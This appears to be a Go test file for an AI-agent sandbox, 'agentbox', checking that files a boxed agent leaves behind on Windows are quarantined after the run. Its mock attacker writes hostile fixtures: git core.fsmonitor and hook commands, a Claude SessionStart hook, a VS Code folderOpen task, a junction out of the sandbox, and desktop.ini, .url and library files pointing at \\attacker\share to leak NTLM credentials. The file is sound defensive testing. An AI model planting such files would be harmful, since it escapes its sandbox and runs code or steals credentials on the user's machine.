package supervise_test

import (
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"golang.org/x/sys/windows"

	"github.com/agentbox/agentbox/backend"
	"github.com/agentbox/agentbox/event"
	"github.com/agentbox/agentbox/plan"
	"github.com/agentbox/agentbox/policy"
	"github.com/agentbox/agentbox/supervise"
	"github.com/agentbox/agentbox/winsandbox"
)

// attacker is a backend whose "box" writes what a hostile command would
// (its run function) and ends: the run path around it (supervise.Run) is
// the real one.
type attacker struct{ run func() }

func (a attacker) Name() string                                      { return "attacker" }
func (a attacker) Available() error                                  { return nil }
func (a attacker) Complete(p *plan.Plan) error                       { return nil }
func (a attacker) Describe(p *plan.Plan, w io.Writer)                {}
func (a attacker) SelfCheck() (string, bool)                         { return "", false }
func (a attacker) Run(p *plan.Plan, c *backend.Context) (int, error) { a.run(); return 0, nil }

// events keeps the events of a run.
type events struct {
	mu  sync.Mutex
	all []event.Event
}

func (e *events) Emit(ev event.Event) { e.mu.Lock(); e.all = append(e.all, ev); e.mu.Unlock() }

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestWindowsAfterRunCheck: on Windows, what the box leaves for host
// programs in the registry's places is neutralised after the run, with
// the plan made by real Windows resolution (the registry, package
// hostexec) and completed by the Windows backend. The attacks: a
// .git\commondir that points the user's next `git status` at a config
// whose core.fsmonitor runs a program; a .claude\settings.json and a
// .vscode\tasks.json where none was; a new repository with such a config
// and a hook; a control file deep in the tree. Before, the after-run check
// ran on Linux only and every one of them stayed.
func TestWindowsAfterRunCheck(t *testing.T) {
	base, err := os.MkdirTemp("", "agentbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	base, _ = filepath.EvalSymlinks(base)
	home := filepath.Join(base, "home")
	proj := filepath.Join(home, "proj")
	write(t, filepath.Join(proj, ".git", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(proj, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n")
	// A linked worktree's folder, as git worktree add leaves it.
	write(t, filepath.Join(proj, ".git", "worktrees", "wt", "HEAD"), "ref: refs/heads/wt\n")
	write(t, filepath.Join(proj, ".git", "worktrees", "wt", "commondir"), "../..\n")
	write(t, filepath.Join(proj, ".git", "worktrees", "wt", "gitdir"), filepath.Join(home, "wt", ".git")+"\n")
	for _, d := range []string{`.git\hooks`, `.git\objects`, `.git\refs`, `tmp`} {
		if err := os.MkdirAll(filepath.Join(proj, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(base, "tmp"), 0o755); err != nil {
		t.Fatal(err)
	}
	const sid = "S-1-5-21-1000-2000-3000-1001"
	env := policy.Env{
		GOOS: "windows", UID: -1, GID: -1, User: sid, Home: home, Cwd: proj, TempDir: filepath.Join(base, "tmp"),
		Environ: []string{`Path=C:\Windows\system32`, `SystemRoot=C:\Windows`, "USERPROFILE=" + home, "TEMP=" + filepath.Join(base, "tmp")},
		FS:      policy.OSFS{},
	}
	layers, err := policy.Load(env, policy.Flags{})
	if err != nil {
		t.Fatal(err)
	}
	p, err := policy.Resolve(layers, env, []string{"claude"}, policy.Options{})
	if err != nil {
		t.Fatal(err)
	}
	p.RunID = "RUN"
	p.Enforce = plan.BestEffort
	w := &winsandbox.Windows{Facts: func(*plan.Plan) winsandbox.Options {
		return winsandbox.Options{TempDir: env.TempDir, User: sid}
	}}
	if err := w.Complete(p); err != nil {
		t.Fatal(err)
	}
	// What the plan says of the missing paths: checked after the run, not
	// "not covered".
	for _, g := range p.HostExec.Guards {
		if g.Keep == plan.KeepNone {
			t.Errorf("guard %s (%s): %s", g.Path, g.Rule, g.Keep)
		}
	}
	if g, ok := p.HostExec.GuardAt(filepath.Join(proj, ".claude")); !ok || g.Keep != plan.KeepChecked {
		t.Errorf("the missing .claude is %+v, want a guard kept by the after-run check", g)
	}
	// The git folders' missing commondir and config.worktree stand in
	// during the run (winsandbox/gitfiles.go) and are checked after it.
	for _, f := range []string{`.git\commondir`, `.git\config.worktree`, `.git\worktrees\wt\config.worktree`} {
		if g, ok := p.HostExec.GuardAt(filepath.Join(proj, f)); !ok || g.Keep != plan.KeepChecked || !strings.Contains(g.Note, "during the run") {
			t.Errorf("the missing %s is %+v, want a guard kept during the run and checked after it", f, g)
		}
	}

	pwned := filepath.Join(base, "pwned.txt")
	fsmonitor := "[core]\n\tfsmonitor = cmd /c echo x> " + strings.ReplaceAll(pwned, `\`, "/") + "\n"
	box := attacker{run: func() {
		write(t, filepath.Join(proj, ".git", "commondir"), "../evil\n")
		write(t, filepath.Join(proj, "evil", "config"), fsmonitor)
		write(t, filepath.Join(proj, "evil", "HEAD"), "ref: refs/heads/main\n")
		write(t, filepath.Join(proj, ".claude", "settings.json"), `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"calc"}]}]}}`)
		write(t, filepath.Join(proj, ".vscode", "tasks.json"), `{"version":"2.0.0","tasks":[{"label":"x","command":"calc","runOptions":{"runOn":"folderOpen"}}]}`)
		write(t, filepath.Join(proj, "sub", ".git", "HEAD"), "ref: refs/heads/main\n")
		write(t, filepath.Join(proj, "sub", ".git", "config"), fsmonitor+"[user]\n\tname = box\n")
		write(t, filepath.Join(proj, "sub", ".git", "hooks", "pre-commit"), "#!/bin/sh\ncalc\n")
		write(t, filepath.Join(proj, "deep", "er", ".claude", "settings.json"), `{}`)
		write(t, filepath.Join(proj, ".git", "config.worktree"), fsmonitor)
		write(t, filepath.Join(proj, ".git", "worktrees", "wt", "config.worktree"), fsmonitor)
		write(t, filepath.Join(proj, ".git", "worktrees", "wt", "commondir"), "../../../evil\n")
	}}
	var ev events
	if _, err := supervise.Run(box, p, backend.Context{Events: &ev}); err != nil {
		t.Fatalf("Run: %v", err)
	}
	for _, gone := range []string{`.git\commondir`, `.claude`, `.vscode`, `sub\.git\hooks\pre-commit`, `deep\er\.claude\settings.json`} {
		if _, err := os.Lstat(filepath.Join(proj, gone)); err == nil {
			t.Errorf("%s is still there after the run", gone)
		}
	}
	for _, f := range []string{`.git\config.worktree`, `.git\worktrees\wt\config.worktree`} {
		if data, err := os.ReadFile(filepath.Join(proj, f)); err == nil && strings.Contains(string(data), "fsmonitor") {
			t.Errorf("%s still sets core.fsmonitor after the run", f)
		}
	}
	if data, err := os.ReadFile(filepath.Join(proj, ".git", "worktrees", "wt", "commondir")); err != nil || strings.TrimSpace(string(data)) != "../.." {
		t.Errorf("the linked worktree's commondir after the run: %q, %v; want ../..", data, err)
	}
	if data, err := os.ReadFile(filepath.Join(proj, "sub", ".git", "config")); err != nil || strings.Contains(string(data), "fsmonitor") || !strings.Contains(string(data), "box") {
		t.Errorf("the new repository's config after the run: %q, %v; want it without core.fsmonitor, its safe keys kept", data, err)
	}
	moved := 0
	for _, e := range ev.all {
		if e.Kind == event.Quarantine {
			moved++
			t.Logf("%s %s: %s", e.Action, e.Path, e.Detail)
		}
	}
	if moved < 5 {
		t.Errorf("%d quarantine events, want one for each thing neutralised", moved)
	}
	// The user's next git, where there is one (Windows; Wine has none),
	// runs nothing the box wrote.
	if git, err := exec.LookPath("git"); err == nil && !underWine() {
		for _, dir := range []string{proj, filepath.Join(proj, "sub")} {
			cmd := exec.Command(git, "status")
			cmd.Dir = dir
			out, err := cmd.CombinedOutput()
			t.Logf("git status in %s: %v\n%s", dir, err, out)
		}
		if _, err := os.Stat(pwned); err == nil {
			t.Error("the user's git status ran the box's core.fsmonitor")
		}
	}
}

// TestWindowsAfterRunRestores: a guard the box may change (one in a folder
// a package manager replaces wholesale) is recorded before the run and put
// back after it; what the box added in a guarded folder is moved away.
func TestWindowsAfterRunRestores(t *testing.T) {
	base, err := os.MkdirTemp("", "agentbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	proj := filepath.Join(base, "proj")
	bin := filepath.Join(proj, "node_modules", ".bin")
	write(t, filepath.Join(bin, "lint-staged.cmd"), "@node lint-staged.js %*\n")
	p := &plan.Plan{RunID: "RUN", HostExec: plan.HostExec{
		Roots: []string{proj}, State: filepath.Join(base, "state"),
		Guards: []plan.Guard{{Path: bin, Rule: "husky node_modules/.bin", Kind: plan.KindDir, Keep: plan.KeepRestored}},
	}}
	box := attacker{run: func() {
		write(t, filepath.Join(bin, "lint-staged.cmd"), "@calc\n")
		write(t, filepath.Join(bin, "new.cmd"), "@calc\n")
	}}
	var ev events
	if _, err := supervise.Run(box, p, backend.Context{Events: &ev}); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if data, _ := os.ReadFile(filepath.Join(bin, "lint-staged.cmd")); string(data) != "@node lint-staged.js %*\n" {
		t.Errorf("the guarded file after the run: %q, want it as it was", data)
	}
	if _, err := os.Lstat(filepath.Join(bin, "new.cmd")); err == nil {
		t.Error("what the box added to the guarded folder is still there")
	}
	// The pending record is gone once the check is done.
	if left, _ := filepath.Glob(filepath.Join(base, "state", "pending", "*")); len(left) > 0 {
		t.Errorf("pending records left after the check: %v", left)
	}
}

func underWine() bool {
	return windows.NewLazySystemDLL("ntdll.dll").NewProc("wine_get_version").Find() == nil
}

// TestWindowsAfterRunMovesOutsideLink: a junction the box leaves in a
// writable root that leads into what it writes outside the roots (its
// temporary folder) is moved away: a host program following it would meet
// what the box left there. Wine cannot make junctions, so this runs on
// real Windows.
func TestWindowsAfterRunMovesOutsideLink(t *testing.T) {
	if underWine() {
		if os.Getenv("AGENTBOX_WINDOWS_MUST_ENFORCE") == "1" {
			t.Fatal("this test needs real Windows, and this is Wine")
		}
		t.Skip("Wine cannot make junctions; this test runs on real Windows (.github/workflows/windows.yml)")
	}
	base, err := os.MkdirTemp("", "agentbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	proj, tmp := filepath.Join(base, "proj"), filepath.Join(base, "boxtmp")
	for _, d := range []string{proj, filepath.Join(tmp, "evil")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	link := filepath.Join(proj, "tools")
	p := &plan.Plan{RunID: "RUN", HostExec: plan.HostExec{Roots: []string{proj}, Outside: []string{tmp}, State: filepath.Join(base, "state")}}
	box := attacker{run: func() {
		if out, err := exec.Command("cmd", "/c", "mklink", "/J", link, filepath.Join(tmp, "evil")).CombinedOutput(); err != nil {
			t.Errorf("mklink /J: %v: %s", err, out)
		}
	}}
	if _, err := supervise.Run(box, p, backend.Context{Events: &events{}}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(link); err == nil {
		t.Error("the junction into the box's temporary folder is still there")
	}
	if _, err := os.Stat(filepath.Join(tmp, "evil")); err != nil {
		t.Errorf("the junction's target was touched: %v", err)
	}
}

// TestWindowsAfterRunMovesExplorerFiles: a desktop.ini, .url, .lnk,
// .library-ms or .searchConnector-ms the box made or changed anywhere in
// a writable root is moved away after the run and named (Explorer would
// follow it to \\server\share with the user's NTLM credentials); the
// user's own unchanged ones stay. Before, every one of them stayed.
func TestWindowsAfterRunMovesExplorerFiles(t *testing.T) {
	base, err := os.MkdirTemp("", "agentbox-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	proj := filepath.Join(base, "proj")
	const leak = "[.ShellClassInfo]\r\nIconResource=\\\\attacker\\share\\x.ico,0\r\n"
	write(t, filepath.Join(proj, "docs", "desktop.ini"), "[.ShellClassInfo]\r\n")
	write(t, filepath.Join(proj, "readme.url"), "[InternetShortcut]\r\nURL=https://example.com\r\n")
	write(t, filepath.Join(proj, "mine.lnk"), "L")
	p := &plan.Plan{RunID: "RUN", HostExec: plan.HostExec{Roots: []string{proj}, State: filepath.Join(base, "state")}}
	planted := []string{`a\b\c\desktop.ini`, `Docs.Library-MS`, `src\q.searchConnector-ms`, `src\x.LNK`, `readme.url`}
	box := attacker{run: func() {
		write(t, filepath.Join(proj, `a\b\c\desktop.ini`), leak)
		write(t, filepath.Join(proj, "Docs.Library-MS"), `<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\attacker\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`)
		write(t, filepath.Join(proj, `src\q.searchConnector-ms`), `<searchConnectorDescription><simpleLocation><url>\\attacker\share</url></simpleLocation></searchConnectorDescription>`)
		write(t, filepath.Join(proj, `src\x.LNK`), "L")
		write(t, filepath.Join(proj, "readme.url"), "[InternetShortcut]\r\nURL=file://attacker/share\r\nIconFile=\\\\attacker\\share\\i.ico\r\n")
	}}
	var ev events
	if _, err := supervise.Run(box, p, backend.Context{Events: &ev}); err != nil {
		t.Fatalf("Run: %v", err)
	}
	for _, gone := range planted {
		if _, err := os.Lstat(filepath.Join(proj, gone)); err == nil {
			t.Errorf("%s is still there after the run", gone)
		}
	}
	for _, kept := range []string{`docs\desktop.ini`, `mine.lnk`} {
		if _, err := os.Lstat(filepath.Join(proj, kept)); err != nil {
			t.Errorf("the user's own unchanged %s was moved: %v", kept, err)
		}
	}
	named := map[string]bool{}
	for _, e := range ev.all {
		if e.Kind == event.Quarantine && e.Action == "moved" {
			rel, _ := filepath.Rel(proj, e.Path)
			named[strings.ToLower(rel)] = true
			t.Logf("%s %s: %s", e.Action, e.Path, e.Detail)
		}
	}
	for _, gone := range planted {
		if !named[strings.ToLower(gone)] {
			t.Errorf("no quarantine event names %s", gone)
		}
	}
}
